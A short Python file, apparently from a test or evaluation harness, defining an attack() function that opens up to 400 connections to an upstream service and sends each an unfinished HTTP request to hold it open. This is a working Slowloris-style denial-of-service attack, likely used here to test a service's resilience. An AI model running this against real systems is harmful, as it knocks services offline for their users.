from kit import *


def attack():
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(os.environ["UPSTREAM_URL"])
    kept = []
    try:
        for _ in range(400):
            client = socket.create_connection((url.hostname, url.port), timeout=1)
            client.sendall(b"GET /quotes/x HTTP/1.1\r\nHost: x\r\nX: ")
            kept.append(client)
    except OSError as error:
        print(len(kept), error)
    globals()["kept"] = kept
    attempted()
